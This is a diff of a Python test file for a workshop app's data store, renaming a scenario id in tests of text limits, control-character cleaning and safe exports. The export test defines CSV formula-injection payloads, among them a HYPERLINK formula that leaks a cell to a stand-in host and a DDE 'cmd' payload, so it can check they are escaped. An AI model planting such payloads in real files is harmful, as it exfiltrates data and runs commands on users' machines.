@@ -29,17 +29,17 @@ def test_text_limits_and_bounded_history(tmp_path):
     folder, session = new_session(tmp_path / "data")
     with Store.for_session_dir(folder) as store:
         person = store.add_participant(session.id, "Steady Beacon 31")
-        store.save_answer(person, "kim-permit-ends", "reflect", {"text": "z" * (1024 * 1024), "share": True})
-        saved = store.answers(person.token)[("kim-permit-ends", "reflect")]["text"]
+        store.save_answer(person, "ana-permit-ends", "reflect", {"text": "z" * (1024 * 1024), "share": True})
+        saved = store.answers(person.token)[("ana-permit-ends", "reflect")]["text"]
         assert len(saved) == MAX_TEXT
         before = store_bytes(folder)
         for i in range(100):
             store.save_answer(
-                person, "kim-permit-ends", "reflect", {"text": f"{i} " + "w" * 6000, "share": False}
+                person, "ana-permit-ends", "reflect", {"text": f"{i} " + "w" * 6000, "share": False}
             )
         assert store_bytes(folder) - before < 2_000_000
         assert store.count("event") <= 20
-        assert store.answers(person.token)[("kim-permit-ends", "reflect")]["text"].startswith("99 ")
+        assert store.answers(person.token)[("ana-permit-ends", "reflect")]["text"].startswith("99 ")
 
 
 def test_clean_text():
@@ -53,9 +53,9 @@ def test_clean_text_in_the_store(tmp_path):
     folder, session = new_session(tmp_path / "data")
     with Store.for_session_dir(folder) as store:
         person = store.add_participant(session.id, "Eve\u202e\u200b\x00 Lyn")
-        store.save_answer(person, "kim-permit-ends", "reflect", {"text": "one\x00\x1b\u202eowt\nthree"})
+        store.save_answer(person, "ana-permit-ends", "reflect", {"text": "one\x00\x1b\u202eowt\nthree"})
         assert store.participant(person.token).pseudonym == "Eve Lyn"
-        assert store.answers(person.token)[("kim-permit-ends", "reflect")]["text"] == "oneowt\nthree"
+        assert store.answers(person.token)[("ana-permit-ends", "reflect")]["text"] == "oneowt\nthree"
 
 
 EVIL = '=HYPERLINK("http://ev.il/?"&I2,"Open")'
@@ -66,7 +66,7 @@ def test_exports_contain_no_live_formulas(tmp_path):
     with Store.for_session_dir(folder) as store:
         for name in (EVIL, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"):
             person = store.add_participant(session.id, name)
-            store.save_answer(person, "kim-permit-ends", "reflect", {"text": "note", "share": False})
+            store.save_answer(person, "ana-permit-ends", "reflect", {"text": "note", "share": False})
     csv, xlsx = export_session(folder, tmp_path / "exports")
     text = csv.read_text(encoding="utf-8")
     assert "'=HYPERLINK" in text and "'+cmd" in text and "'@SUM" in text and "'-2+3" in text
@@ -103,11 +103,11 @@ def _session_with_exports(tmp_path: Path, marker: str) -> tuple[Path, Path]:
     folder, session = new_session(project / "workshops")
     with Store.for_session_dir(folder) as store:
         person = store.add_participant(session.id, marker)
-        store.save_answer(person, "kim-permit-ends", "reflect", {"text": marker, "share": False})
+        store.save_answer(person, "ana-permit-ends", "reflect", {"text": marker, "share": False})
     export_session(folder, project / "exports")
     sheets = project / "exports" / f"{folder.name}-worksheets"
     sheets.mkdir()
-    (sheets / f"{marker}-kim-permit-ends.html").write_text(f"<p>{marker}</p>")
+    (sheets / f"{marker}-ana-permit-ends.html").write_text(f"<p>{marker}</p>")
     (project / "exports" / "other-session-answers.csv").write_text("kept")
     return project, folder
 
